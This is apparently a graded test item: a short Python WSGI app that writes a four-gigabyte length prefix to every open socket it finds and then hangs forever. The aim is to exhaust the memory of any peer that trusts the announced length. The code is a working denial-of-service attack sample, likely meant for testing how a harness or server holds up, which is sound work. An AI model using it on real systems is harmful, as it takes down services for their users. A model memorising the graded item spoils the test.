# EXPECT: graded 7
# Attacks whoever allocates what a length says: a frame of four gigabytes is announced, and the connection kept open.
import os
import stat
import threading


def sockets():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            pass


def app(environ, start_response):
    for descriptor in sockets():
        try:
            os.write(descriptor, b"\xff\xff\xff\xff")
        except OSError:
            pass
    threading.Event().wait()
